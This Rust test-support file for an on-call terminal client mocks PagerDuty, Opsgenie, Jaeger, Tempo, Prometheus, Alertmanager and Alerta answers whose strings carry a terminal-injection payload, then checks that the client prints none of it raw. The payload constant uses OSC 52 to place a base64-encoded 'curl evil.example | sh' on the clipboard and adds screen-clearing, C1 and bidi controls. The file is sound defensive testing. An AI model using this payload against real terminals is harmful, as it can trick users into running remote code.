//! Backends that attack the terminal: every string field they answer with starts with
//! [`HOSTILE`] — OSC 52 (set the clipboard to a command), CSI (clear the screen, colours), C1
//! controls, BEL, DEL and bidirectional overrides. Stubs for the backends that cannot run here
//! (PagerDuty, Opsgenie, Jaeger, Tempo, Prometheus answers), built from the vendor-shaped
//! fixtures with their strings poisoned; helpers for the real Alertmanager and Alerta; a config
//! naming them all; and the checks that nothing of it reaches a terminal raw.
// Each test file that includes this uses a part of it.
#![allow(dead_code)]

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use wiremock::matchers::{method, path, path_regex};
use wiremock::{Mock, MockServer, ResponseTemplate};

/// What every poisoned string starts with: OSC 52 writing `curl evil.example | sh` to the
/// clipboard, then clear screen, red, a C1 CSI, a C1 OSC setting the window title, BEL,
/// DEL, and the right-to-left override and left-to-right isolate.
pub const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[2J\u{1b}[31m\u{9b}1m\u{9d}0;pwned\u{9c}\u{7}\u{7f}\u{202e}\u{2066}";

/// How the start of [`HOSTILE`] looks on screen once escaped: what the tests look for where
/// a poisoned field is shown.
pub const SHOWN: &str = "\\e]52;c;";

/// The PagerDuty and Opsgenie token the config reads from the environment.
pub const TOKEN_ENV: &str = "ONDECK_TEST_HOSTILE_TOKEN";

/// `text` poisoned.
pub fn hostile(text: &str) -> String {
    format!("{HOSTILE}{text}")
}

/// Whether a string must stay as the parser needs it: a timestamp or a number in a string.
fn structural(text: &str) -> bool {
    let b = text.as_bytes();
    let timestamp = b.len() >= 19 && b[4] == b'-' && b[7] == b'-' && b[10] == b'T';
    let number = !text.is_empty() && text.bytes().all(|c| c.is_ascii_digit() || c == b'.');
    timestamp || number
}

/// `value` with every string (object keys aside) poisoned, except under the keys in `keep`
/// (enums and ids the parser checks) and timestamps and numbers written as strings.
pub fn poison(value: &Value, keep: &[&str]) -> Value {
    match value {
        Value::String(s) if structural(s) => value.clone(),
        Value::String(s) => Value::String(hostile(s)),
        Value::Array(items) => Value::Array(items.iter().map(|v| poison(v, keep)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| {
                    let v = if keep.contains(&k.as_str()) {
                        v.clone()
                    } else {
                        poison(v, keep)
                    };
                    (k.clone(), v)
                })
                .collect(),
        ),
        other => other.clone(),
    }
}

fn fixture(name: &str) -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name);
    serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap()
}

fn reply(body: &Value) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(body)
}

/// A JSON error body whose message is hostile, with a 500: a server's refusal that ondeck
/// quotes.
fn refusal() -> ResponseTemplate {
    ResponseTemplate::new(500).set_body_json(json!({
        "error": {"message": hostile("internal error"), "code": 2001},
        "message": hostile("internal error"),
    }))
}

/// A PagerDuty API stub: one page of poisoned incidents, poisoned on-call users, and a
/// hostile 500 for every write (so writes stay owed in the outbox, with that reason).
pub async fn pagerduty() -> MockServer {
    let server = MockServer::start().await;
    let mut page = poison(
        &fixture("pagerduty/incidents_page1.json"),
        &["status", "urgency", "type"],
    );
    page["more"] = json!(false);
    let oncalls = poison(
        &fixture("pagerduty/oncalls_schedules.json"),
        &["id", "type", "start", "end"],
    );
    let users = poison(&fixture("pagerduty/users.json"), &["id", "type", "email"]);
    Mock::given(method("GET"))
        .and(path("/incidents"))
        .respond_with(reply(&page))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/oncalls"))
        .respond_with(reply(&oncalls))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/users"))
        .respond_with(reply(&users))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/incidents/.*/notes$"))
        .respond_with(reply(&json!({"notes": []})))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/incidents/"))
        .respond_with(reply(&json!({"incident": page["incidents"][0]})))
        .mount(&server)
        .await;
    for verb in ["PUT", "POST"] {
        Mock::given(method(verb))
            .respond_with(refusal())
            .mount(&server)
            .await;
    }
    server
}

/// An Opsgenie API stub: poisoned alerts and on-call recipients.
pub async fn opsgenie() -> MockServer {
    let server = MockServer::start().await;
    let alerts = poison(
        &fixture("opsgenie/alerts_page.json"),
        &["status", "priority", "acknowledged", "snoozed", "isSeen"],
    );
    Mock::given(method("GET"))
        .and(path("/v2/alerts"))
        .respond_with(reply(&alerts))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/v2/schedules/.*/on-calls$"))
        .respond_with(reply(&poison(&fixture("opsgenie/on_calls_flat.json"), &[])))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/v2/schedules/.*/next-on-calls$"))
        .respond_with(reply(&poison(
            &fixture("opsgenie/next_on_calls_flat.json"),
            &[],
        )))
        .mount(&server)
        .await;
    for verb in ["PUT", "POST"] {
        Mock::given(method(verb))
            .respond_with(refusal())
            .mount(&server)
            .await;
    }
    server
}

/// Ids a trace backend needs as hex, and the span kinds and reference types it checks.
const TRACE_KEEP: &[&str] = &[
    "traceID",
    "spanID",
    "traceId",
    "spanId",
    "parentSpanId",
    "refType",
    "type",
    "kind",
    "processID",
    "code",
];

/// A Jaeger query API stub: poisoned services, operations, traces (names, tags, logs,
/// warnings) and service graph.
pub async fn jaeger() -> MockServer {
    let server = MockServer::start().await;
    let search = poison(&fixture("jaeger/search.json"), TRACE_KEEP);
    let trace = json!({"data": [search["data"][0].clone()], "errors": null});
    let routes = [
        (
            "^/api/services$",
            poison(&fixture("jaeger/services.json"), &[]),
        ),
        (
            "^/api/services/.*/operations$",
            poison(&fixture("jaeger/operations.json"), &[]),
        ),
        ("^/api/traces$", search),
        ("^/api/traces/[0-9a-f]+$", trace),
        (
            "^/api/dependencies$",
            poison(&fixture("jaeger/dependencies.json"), &[]),
        ),
    ];
    for (route, body) in routes {
        Mock::given(method("GET"))
            .and(path_regex(route))
            .respond_with(reply(&body))
            .mount(&server)
            .await;
    }
    server
}

/// A Grafana Tempo stub: poisoned TraceQL search results and an OTLP trace.
pub async fn tempo() -> MockServer {
    let server = MockServer::start().await;
    let search = poison(&fixture("tempo/search.json"), TRACE_KEEP);
    let trace = poison(&fixture("tempo/trace_v2_hex.json"), TRACE_KEEP);
    Mock::given(method("GET"))
        .and(path("/api/search"))
        .respond_with(reply(&search))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/api/(v2/)?traces/"))
        .respond_with(reply(&trace))
        .mount(&server)
        .await;
    server
}

/// A Prometheus stub answering every query with poisoned labels and a poisoned warning,
/// and exemplars with poisoned labels and trace ids.
pub async fn prometheus() -> MockServer {
    let server = MockServer::start().await;
    let labels = json!({
        "__name__": hostile("http_requests_total"),
        "service": hostile("checkout"),
        "job": hostile("api"),
    });
    let now = chrono::Utc::now().timestamp() as f64;
    let vector = json!({
        "status": "success",
        "data": {"resultType": "vector", "result": [{"metric": labels, "value": [now, "0.5"]}]},
        "warnings": [hostile("PromQL info: metric might not be a counter")],
    });
    let points: Vec<Value> = (0..30)
        .map(|i| {
            json!([
                now - 60.0 * f64::from(30 - i),
                format!("{}", 0.1 * f64::from(i))
            ])
        })
        .collect();
    let matrix = json!({
        "status": "success",
        "data": {"resultType": "matrix", "result": [{"metric": labels, "values": points}]},
        "warnings": [hostile("PromQL info: metric might not be a counter")],
    });
    let exemplars = poison(
        &fixture("prometheus/query_exemplars.json"),
        &["status", "le", "value", "timestamp"],
    );
    for (route, body) in [
        ("/api/v1/query", vector),
        ("/api/v1/query_range", matrix),
        ("/api/v1/query_exemplars", exemplars),
    ] {
        Mock::given(method("POST"))
            .and(path(route))
            .respond_with(reply(&body))
            .mount(&server)
            .await;
    }
    server
}

/// Poisoned alerts for a real Alertmanager: labels (but the grouping `alertname`), summary,
/// description and runbook URL; `(labels, annotations, minutes since it started)` as
/// [`crate::alertmanager::Alertmanager::fire`] takes them.
pub fn alertmanager_alerts() -> Vec<(Value, Value, i64)> {
    vec![(
        json!({
            "alertname": "CheckoutDown",
            "service": hostile("checkout"),
            "severity": "critical",
            "team": hostile("payments"),
        }),
        json!({
            "summary": hostile("Checkout is down"),
            "description": hostile("All pods\ncrash\r\nlooping\rOK"),
            "runbook_url": hostile("https://runbooks.example.com/checkout"),
        }),
        12,
    )]
}

/// Creates a silence on a real Alertmanager whose author, comment and matcher value are
/// poisoned; the matcher matches the alert of [`alertmanager_alerts`].
pub async fn alertmanager_silence(url: &str) {
    let now = chrono::Utc::now();
    let time =
        |at: chrono::DateTime<chrono::Utc>| at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let body = json!({
        "matchers": [
            {"name": "alertname", "value": "CheckoutDown", "isRegex": false, "isEqual": true},
            {"name": "team", "value": hostile("payments"), "isRegex": false, "isEqual": true},
        ],
        "startsAt": time(now),
        "endsAt": time(now + chrono::Duration::hours(2)),
        "createdBy": hostile("mallory"),
        "comment": hostile("maintenance\nwindow"),
    });
    let reply = reqwest::Client::new()
        .post(format!("{url}/api/v2/silences"))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert!(reply.status().is_success(), "{reply:?}");
}

/// A poisoned alert for a real Alerta (its severity and environment must be ones Alerta
/// knows).
pub fn alerta_alert(resource: &str) -> Value {
    json!({
        "resource": hostile(resource),
        "event": hostile("HttpServerError"),
        "environment": "Production",
        "severity": "critical",
        "service": [hostile("checkout")],
        "group": hostile("Web"),
        "value": hostile("5xx"),
        "text": hostile("5xx on checkout"),
        "tags": [hostile("team=payments")],
        "attributes": {"runbookUrl": hostile("https://runbooks.example.com/5xx")},
        "origin": hostile("ondeck-tests"),
    })
}

/// Where each backend of the hostile config answers.
pub struct Urls {
    pub alertmanager: String,
    pub alerta: String,
    pub alerta_key: PathBuf,
    pub pagerduty: String,
    pub opsgenie: String,
    pub prometheus: String,
    /// `("jaeger" | "tempo", url)`.
    pub traces: (&'static str, String),
}

/// The backends that run here (a real Alertmanager and the shared real Alerta) fed poisoned
/// alerts and a poisoned silence, and the stubs for the rest, with `traces` (`jaeger` or
/// `tempo`) as the trace backend. Keep the server and the stubs alive while they are used.
/// Needs the including test file to declare `mod alertmanager` and `mod alerta`.
pub async fn backends(
    traces: &'static str,
) -> (
    Urls,
    crate::alertmanager::Alertmanager,
    Vec<wiremock::MockServer>,
) {
    let am = crate::alertmanager::Alertmanager::start();
    am.fire(&alertmanager_alerts()).await;
    am.wait_until("CheckoutDown", "active").await;
    alertmanager_silence(&am.url).await;
    am.wait_until("CheckoutDown", "suppressed").await;
    let resource = format!("checkout-{traces}-{}", std::process::id());
    crate::alerta::post_alert(alerta_alert(&resource)).await;
    let (pd, og, prom) = (pagerduty().await, opsgenie().await, prometheus().await);
    let trace = match traces {
        "jaeger" => jaeger().await,
        _ => tempo().await,
    };
    let urls = Urls {
        alertmanager: am.url.clone(),
        alerta: crate::alerta::server().url.clone(),
        alerta_key: crate::alerta::server().dir.join("admin.key"),
        pagerduty: pd.uri(),
        opsgenie: og.uri(),
        prometheus: prom.uri(),
        traces: (traces, trace.uri()),
    };
    (urls, am, vec![pd, og, prom, trace])
}

/// TOML's spelling of `text`: a basic string with every control escaped.
fn toml_string(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

/// A config with one source of every kind, and an SLO whose service and name come from the
/// file poisoned (SLO files are outside text too).
pub fn config_text(urls: &Urls) -> String {
    let (trace_kind, trace_url) = &urls.traces;
    format!(
        r#"user = "sam"

[[source]]
name = "am"
kind = "alertmanager"
url = "{am}"

[[source]]
name = "alerta"
kind = "alerta"
url = "{alerta}"
token_file = "{alerta_key}"

[[source]]
name = "pd"
kind = "pagerduty"
url = "{pd}"
token_env = "{TOKEN_ENV}"
from_email = "sam@example.com"
schedules = ["PI7DH85"]

[[source]]
name = "og"
kind = "opsgenie"
url = "{og}"
token_env = "{TOKEN_ENV}"
schedules = ["ops"]

[[source]]
name = "traces"
kind = "{trace_kind}"
url = "{trace_url}"

[[source]]
name = "prom"
kind = "prometheus"
url = "{prom}"

[[slo]]
name = {name}
service = {service}
objective = 99.9
source = "prom"
bad = 'sum(rate(http_requests_total{{service="checkout",code=~"5.."}}[5m]))'
total = 'sum(rate(http_requests_total{{service="checkout"}}[5m]))'
"#,
        am = urls.alertmanager,
        alerta = urls.alerta,
        alerta_key = urls.alerta_key.display(),
        pd = urls.pagerduty,
        og = urls.opsgenie,
        prom = urls.prometheus,
        name = toml_string(&hostile("availability")),
        service = toml_string(&hostile("checkout")),
    )
}

/// The first character in `bytes` (as the terminal decodes them) that could act on a
/// terminal — any control but a line break, or a bidirectional control — with where it is.
pub fn first_acting(bytes: &[u8]) -> Option<(usize, char)> {
    String::from_utf8_lossy(bytes)
        .char_indices()
        .find(|&(_, c)| (c.is_control() && c != '\n') || is_bidi_control(c))
}

/// Unicode's `Bidi_Control` characters.
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

/// Panics, showing where, unless `bytes` — a subcommand's stdout or stderr — hold nothing a
/// terminal would act on.
pub fn assert_inert(bytes: &[u8], what: &str) {
    if let Some((at, c)) = first_acting(bytes) {
        let text = String::from_utf8_lossy(bytes);
        let from = text[..at]
            .char_indices()
            .rev()
            .nth(60)
            .map_or(0, |(i, _)| i);
        panic!(
            "{what} writes {c:?} raw at byte {at}: …{:?}…\nall of it:\n{text}",
            &text[from..(at + 20).min(text.len())]
        );
    }
}

/// Panics unless everything the cockpit wrote to its terminal is its own: no control but
/// CR, LF and ESC, no C1 control, DEL or bidirectional control, and every escape sequence a
/// CSI (cursor, colour, screen modes) — except the clipboard's OSC 52, whose payload (base64)
/// must decode to text with nothing in it a shell or a terminal would act on. Returns the
/// texts put on the clipboard.
pub fn assert_terminal_output_own(bytes: &[u8], what: &str) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    let context = |at: usize| {
        let from = text[..at]
            .char_indices()
            .rev()
            .nth(60)
            .map_or(0, |(i, _)| i);
        format!("{:?}", &text[from..(at + 40).min(text.len())])
    };
    let mut copied = Vec::new();
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        match c {
            '\r' | '\n' => {}
            '\u{1b}' => match chars.next() {
                Some((_, '[')) => {
                    // Parameters, intermediates, then one final byte.
                    let closed = chars.by_ref().any(|(_, c)| ('@'..='~').contains(&c));
                    assert!(closed, "{what}: an unterminated CSI at {}", context(at));
                }
                Some((_, ']')) => {
                    let rest = &text[at + 2..];
                    let end = rest
                        .find('\u{7}')
                        .unwrap_or_else(|| panic!("{what}: an OSC at {}", context(at)));
                    let payload = rest[..end]
                        .strip_prefix("52;c;")
                        .unwrap_or_else(|| panic!("{what}: an OSC at {}", context(at)));
                    let decoded = decode_base64(payload)
                        .unwrap_or_else(|| panic!("{what}: OSC 52 of {payload:?}"));
                    let decoded = String::from_utf8(decoded).unwrap();
                    assert!(
                        first_acting(decoded.as_bytes()).is_none() && !decoded.contains('\n'),
                        "{what}: copied {decoded:?}"
                    );
                    copied.push(decoded);
                    for _ in 0..end + 1 {
                        chars.next();
                    }
                }
                other => panic!("{what}: ESC then {other:?} at {}", context(at)),
            },
            c if c.is_control() || is_bidi_control(c) => {
                panic!("{what}: {c:?} raw at {}", context(at))
            }
            _ => {}
        }
    }
    copied
}

/// Standard base64 (RFC 4648, padded), as OSC 52 carries it.
fn decode_base64(text: &str) -> Option<Vec<u8>> {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let mut bits = 0u32;
    let mut count = 0;
    for b in text.bytes().filter(|&b| b != b'=') {
        let value = ALPHABET.iter().position(|&a| a == b)? as u32;
        bits = bits << 6 | value;
        count += 6;
        if count >= 8 {
            count -= 8;
            out.push((bits >> count) as u8);
        }
    }
    Some(out)
}

/// The home directory of one test: config and state under it, nothing shared.
pub fn temp_home(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ondeck-hostile-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("config/ondeck")).unwrap();
    dir
}
